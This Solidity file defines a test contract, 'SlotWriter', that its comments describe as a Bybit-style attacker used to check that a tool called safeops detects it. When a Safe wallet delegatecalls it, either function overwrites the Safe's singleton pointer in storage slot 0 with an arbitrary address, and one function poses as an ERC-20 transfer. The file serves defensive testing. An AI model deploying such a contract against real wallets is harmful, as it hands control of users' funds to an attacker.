// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @notice Bybit-style attacker contract that exists only to test that safeops catches it: when
///         DELEGATECALLed by a Safe it overwrites slot 0 (the Safe's singleton) with an address.
contract SlotWriter {
    /// @dev Replaces the calling Safe's singleton (slot 0) with `dest`.
    function sweepETH(address dest) external {
        assembly {
            sstore(0, dest)
        }
    }

    /// @dev Looks like an ERC-20 transfer in calldata, but replaces slot 0 with `to`.
    function transfer(address to, uint256 value) external returns (bool) {
        value;
        assembly {
            sstore(0, to)
        }
        return true;
    }
}
